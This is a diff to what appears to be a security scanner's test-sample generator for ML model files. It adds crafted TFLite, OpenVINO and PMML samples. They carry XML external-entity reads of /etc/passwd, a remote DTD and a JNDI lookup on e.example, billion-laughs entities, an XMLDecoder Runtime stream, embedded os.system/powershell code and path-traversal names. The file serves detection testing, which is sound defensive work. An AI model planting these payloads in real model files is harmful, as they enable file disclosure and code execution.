@@ -30,6 +30,9 @@ def samples() -> Iterator[Malicious]:
     yield from _tflite_structure()
     yield from _r_promises()
     yield from _r_code()
+    yield from _xml_entities()
+    yield from _openvino()
+    yield from _pmml()
 
 
 def zipped(name: str, data: bytes) -> bytes:
@@ -47,12 +50,17 @@ def flex(code: str, name: str, op: str) -> bytes:
 
 
 def _tflite_operators() -> Iterator[Malicious]:
-    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "SaveV2", "PrintV2", "Abort", "RpcCall"):
-        yield malicious(f"tflite-flex-{op}", "model.tflite", flex(f"Flex{op}", op, op), "unsafe-operator")
-    yield malicious("tflite-flex-node-differs", "m.tflite", flex("FlexAdd", "Add", "ReadFile"), "unsafe-operator")
-    yield malicious("tflite-flex-options-differ", "m.tflite", flex("FlexAdd", "WriteFile", "Add"), "unsafe-operator")
+    for op, rule in (
+        *dict.fromkeys(("ReadFile", "WriteFile", "MatchingFiles", "LoadDataset"), "graph-file-access").items(),
+        *dict.fromkeys(("PyFunc", "EagerPyFunc"), "graph-calls-python").items(),
+        ("RpcCall", "graph-network-access"),
+        ("Abort", "graph-harmful-operator"),
+    ):
+        yield malicious(f"tflite-flex-{op}", "model.tflite", flex(f"Flex{op}", op, op), rule)
+    yield malicious("tflite-flex-node-differs", "m.tflite", flex("FlexAdd", "Add", "ReadFile"), "graph-file-access")
+    yield malicious("tflite-flex-options-differ", "m.tflite", flex("FlexAdd", "WriteFile", "Add"), "graph-file-access")
     extended = tflite([{3: ("i", 32), 1: "Evil"}])
-    custom = "custom-native-operator"
+    custom = "custom-operator"
     yield malicious("tflite-custom-operator", "m.tflite", tflite([{0: ("b", 32), 1: "Evil"}]), custom, least=_MEDIUM)
     yield malicious("tflite-custom-operator-extended", "m.tflite", extended, custom, least=_MEDIUM)
     yield malicious("tflite-custom-unused", "m.bin", tflite([{}, {0: ("b", 32), 1: "Run"}]), custom, least=_MEDIUM)
@@ -74,7 +82,7 @@ def _tflite_structure() -> Iterator[Malicious]:
     yield malicious("tflite-appended-zip-escapes", "m.tflite", escaping, "archive-path-traversal")
     for name in ("../../../etc/passwd", "/etc/shadow", "C:\\weights.bin"):
         data = tflite(f8=[{0: name}])
-        yield malicious(f"tflite-external-{name[:3]}", "m.tflite", data, "model-reference-outside")
+        yield malicious(f"tflite-external-{name[:3]}", "m.tflite", data, "external-data-escapes")
     operators: dict[str, Table] = {
         "tensor": {0: ("I", 0), 1: [7], 2: [1]},
         "negative": {0: ("I", 0), 1: [-2], 2: [1]},
@@ -162,6 +170,92 @@ def _r_code() -> Iterator[Malicious]:
     yield malicious("rds-mapped-vector", "model.rds", r.rds(mapped), "r-native-object")
     foreign = r.altrep("evil", "unknownpkg", r.NIL)
     yield malicious("rds-foreign-class", "model.rds", r.rds(foreign), "r-native-object")
+
+
+def _xml_entities() -> Iterator[Malicious]:
+    net = b'<net name="n" version="11"><layers/></net>'
+    pmml = b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>'
+    types = {
+        "external": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+        "parameter": b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://e.example/x.dtd"> %e;]>',
+        "laughs": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
+    }
+    for what, declared in types.items():
+        for name, root in (("net.xml", net), ("model.pmml", pmml), ("config.xml", b"<config/>")):
+            data = b'<?xml version="1.0"?>' + declared + root
+            yield malicious(f"xml-entity-{what}-{name}", name, data, "xml-entity")
+    plain = b'<!DOCTYPE x [<!ENTITY a "ha">]>'
+    yield malicious("xml-entity-text", "model.pmml", plain + pmml, "xml-entity")
+    wide = (b'<?xml version="1.0" encoding="utf-16"?>' + types["external"] + pmml).decode().encode("utf-16")
+    yield malicious("xml-entity-utf-16", "model.pmml", wide, "xml-entity")
+    late = b"<!--" + b" " * 200_000 + b"-->" + types["external"] + net
+    yield malicious("xml-entity-behind-a-comment", "net.xml", late, "xml-entity")
+    include = pmml.replace(b"<Header/>", b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>')
+    yield malicious("xml-include", "model.pmml", include, "xml-entity")
+    stream = b'<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.lang.Runtime"/></java>'
+    yield malicious("xml-decoder", "model.xml", stream, "xml-object-stream")
+
+
+def layer(kind: str, version: str = "opset1", inner: str = "") -> bytes:
+    """Return a network of one layer."""
+    head = '<?xml version="1.0"?><net name="n" version="11"><layers>'
+    attributes = f'id="0" name="x" type="{kind}"' + (f' version="{version}"' if version else "")
+    return f"{head}<layer {attributes}>{inner}</layer></layers><edges/></net>".encode()
+
+
+def _openvino() -> Iterator[Malicious]:
+    custom = "custom-operator"
+    yield malicious("openvino-extension", "m.xml", layer("Evil", "extension"), custom, least=_MEDIUM)
+    yield malicious("openvino-unknown-type", "m.xml", layer("Evil"), custom, least=_MEDIUM)
+    yield malicious("openvino-unknown-set", "m.xml", layer("Add", "my_opset"), custom, least=_MEDIUM)
+    body = f"<body>{layer('Evil', 'extension').decode()[22:]}</body>"
+    yield malicious("openvino-in-a-body", "m.xml", layer("Loop", "opset5", body), custom, least=_MEDIUM)
+    for what, place in {
+        "huge": 'offset="18446744073709551615" size="16"',
+        "negative": 'offset="-8" size="16"',
+        "no-number": 'offset="0x10" size="16"',
+        "overflow": 'offset="0" size="16" shape="4294967296,4294967296,4294967296"',
+    }.items():
+        shape = "" if "shape" in place else 'shape="4"'
+        constant = f'<data element_type="f32" {shape} {place}/>'
+        data = layer("Const", "opset1", constant)
+        yield malicious(f"openvino-constant-{what}", "m.xml", data, "openvino-constant-mismatch")
+    small = layer("Const", "opset1", '<data element_type="f32" shape="4,4" offset="0" size="16"/>')
+    yield malicious("openvino-constant-small", "m.xml", small, "openvino-constant-mismatch", least=_MEDIUM)
+    source = b'<Kernel entry="e"><Source filename="../../k.cl"/></Kernel>'
+    kernel = b'<CustomLayer name="Evil" type="SimpleGPU" version="1">' + source + b"</CustomLayer>"
+    yield malicious("openvino-custom-layer", "custom.xml", kernel, custom, least=_MEDIUM)
+    yield malicious("openvino-kernel-outside", "custom.xml", kernel, "external-data-escapes")
+
+
+def pmml(inner: str) -> bytes:
+    """Return a document around some elements."""
+    return f'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{inner}</PMML>'.encode()
+
+
+def _pmml() -> Iterator[Malicious]:
+    derived = '<DerivedField name="d" optype="continuous" dataType="double"><Apply function="{}"/></DerivedField>'
+    for name in ("org.example.Evil", "com.evil.Run:call", "java.lang.Runtime#exec", "javax/script/Engine"):
+        data = pmml(derived.format(name))
+        yield malicious(f"pmml-class-{name[:9]}", "m.pmml", data, "pmml-foreign-function")
+    unknown = pmml(derived.format("runEvil"))
+    yield malicious("pmml-unknown-function", "m.pmml", unknown, "pmml-foreign-function", least=_MEDIUM)
+    for what, inner in {
+        "python": '<Extension name="code" value="__import__(&apos;os&apos;).system(&apos;echo seen&apos;)"/>',
+        "text": "<Extension>import os\nos.system('echo seen')</Extension>",
+        "java": '<Extension extender="x"><a>Runtime.getRuntime().exec("echo")</a></Extension>',
+        "script": "<Extension><script>alert(1)</script></Extension>",
+        "vendor": "<X-Vendor-Script>echo</X-Vendor-Script>",
+        "build": '<MiningBuildTask><Extension name="x" value="subprocess.run(1)"/></MiningBuildTask>',
+        "jndi": '<Extension value="${jndi:ldap://e.example/a}"/>',
+        "split": "<Extension>os.<!-- -->system('x')</Extension>",
+        "shell": "<Extension>powershell -enc AAAA</Extension>",
+    }.items():
+        yield malicious(f"pmml-code-{what}", "m.pmml", pmml(inner), "pmml-embedded-code")
+    table = pmml('<Taxonomy><TableLocator><Extension name="url" value="jdbc:x"/></TableLocator></Taxonomy>')
+    yield malicious("pmml-table-locator", "m.pmml", table, "pmml-external-table", least=_MEDIUM)
+    packed = gzip.compress(pmml(derived.format("org.example.Evil")), mtime=0)
+    yield malicious("pmml-gzip", "m.pmml.gz", packed, "pmml-foreign-function")
 
 
 _MEDIUM = Severity.MEDIUM
